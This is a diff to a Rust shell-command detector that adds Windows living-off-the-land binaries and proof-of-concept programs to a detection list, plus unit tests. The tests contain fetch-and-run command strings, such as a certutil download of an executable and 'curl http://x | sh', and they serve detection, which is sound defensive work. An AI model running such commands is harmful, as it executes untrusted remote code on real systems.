@@ -54,6 +54,30 @@ const SHELL_PROGRAMS: &[&str] = &[
     "mv",
     "cp",
     "dd",
+    // What proof-of-concept payloads run to show they ran.
+    "ls",
+    "ps",
+    "calc",
+    "calc.exe",
+    "xcalc",
+    "gnome-calculator",
+    "notepad",
+    "notepad.exe",
+    "xdg-open",
+    "osascript",
+    // Windows living-off-the-land binaries that fetch or run code.
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "certutil",
+    "bitsadmin",
+    "wscript",
+    "cscript",
+    "schtasks",
+    "nslookup",
+    "ifconfig",
+    "netstat",
+    "hostname",
 ];
 
 /// Whether `s` reads like a shell command line: a known program first, or shell syntax
@@ -81,4 +105,24 @@ pub(crate) fn looks_like_shell(s: &str) -> bool {
         .iter()
         .any(|p| t.contains(p))
         || (t.matches('`').count() >= 2)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn command_lines() {
+        assert!(looks_like_shell("echo modelguard-test"));
+        assert!(looks_like_shell("/bin/ls -la /root"));
+        assert!(looks_like_shell(
+            "certutil -urlcache -f http://x/a.exe a.exe"
+        ));
+        assert!(looks_like_shell("curl http://x | sh"));
+        // A program name alone is a word (`StringDtype('python')`), ordinary text is text.
+        assert!(!looks_like_shell("python"));
+        assert!(!looks_like_shell("ls"));
+        assert!(!looks_like_shell("the quick brown fox"));
+        assert!(!looks_like_shell("int64"));
+    }
 }
